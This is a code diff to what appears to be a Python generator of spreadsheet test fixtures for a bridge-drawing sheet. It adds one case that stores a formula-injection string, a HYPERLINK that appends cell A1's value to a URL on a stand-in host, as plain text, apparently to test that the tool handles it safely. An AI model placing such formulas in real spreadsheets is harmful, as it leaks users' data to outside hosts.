@@ -37,6 +37,13 @@ def cell(ref, value, number_format=None):
     return edit
 
 
+def text_cell(ref, value):
+    def edit(book, sheet):
+        sheet[ref] = value
+        sheet[ref].data_type = "s"  # a text that looks like a formula, not a formula
+    return edit
+
+
 def sheet_before_table(book, sheet):
     notes = book.create_sheet("说明", 0)
     notes["A1"] = "改宽度"
@@ -81,6 +88,7 @@ single_edit("scale_typed_as_ratio", cell("B16", "1:20"))
 single_edit("sheet_before_table", sheet_before_table)
 single_edit("deleted_row", deleted_angle_row)
 single_edit("other_drawing", cell("B6", 600), "other.xlsx")
+single_edit("note_like_a_formula", text_cell("B18", '=HYPERLINK("http://x?"&A1,"click")'))
 
 # The parametric sheet: rows 2-7 are read-only, B12 scale, row 16 the list
 # header, rows 17 and 18 the list (bridge part, pier number, count, heights).
